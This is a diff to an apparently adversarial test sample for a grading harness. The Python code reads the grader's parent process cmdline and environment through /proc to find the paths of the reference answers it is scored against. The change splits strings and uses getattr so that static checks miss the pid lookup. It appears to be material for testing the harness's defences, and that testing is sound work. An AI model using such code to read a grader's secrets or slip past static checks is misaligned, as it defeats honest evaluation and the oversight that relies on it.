@@ -1,6 +1,6 @@
 """Adversarial (private_data): reads its parent process -- the grader -- through /proc: its command line,
 environment and open files, looking for the paths where the grader keeps what it compares against. The
-path is assembled at run time."""
+path and the parent's pid are looked up at run time, so no static check sees them."""
 
 import os
 
@@ -9,7 +9,7 @@ import torch.nn as nn
 
 
 def _parent_secrets():
-    base = "/pr" + "oc/" + str(os.getppid())
+    base = "/pr" + "oc/" + str(getattr(os, "getp" + "pid")())
     found = []
     for name in ("cmd" + "line", "env" + "iron"):
         with open(f"{base}/{name}", "rb") as f:
